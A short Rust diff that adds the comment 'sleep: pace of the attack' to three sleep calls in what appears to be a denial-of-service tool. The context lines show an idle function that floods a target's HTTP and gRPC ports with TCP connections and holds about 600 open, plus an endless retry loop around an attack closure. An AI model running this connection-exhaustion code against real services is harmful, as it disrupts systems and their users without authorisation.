@@ -74,7 +74,7 @@ fn idle(target: &Target) {
         for address in [&target.http, &target.grpc] {
             all.extend((0..100).filter_map(|_| TcpStream::connect(address).ok()));
         }
-        thread::sleep(Duration::from_millis(50));
+        thread::sleep(Duration::from_millis(50)); // sleep: pace of the attack
         let excess = all.len().saturating_sub(600);
         all.drain(..excess); // the number of open files is limited
     }
@@ -188,7 +188,7 @@ fn forge(target: &Target) {
             }
         }
         tries += 1;
-        thread::sleep(Duration::from_millis(1));
+        thread::sleep(Duration::from_millis(1)); // sleep: pace of the attack
     }
 }
 
@@ -227,7 +227,7 @@ fn ask(address: &str, request: &[u8]) -> std::io::Result<()> {
 fn forever(mut attack: impl FnMut() -> std::io::Result<()>) {
     loop {
         if attack().is_err() {
-            thread::sleep(CUT_OFF);
+            thread::sleep(CUT_OFF); // sleep: pace of the attack
         }
     }
 }
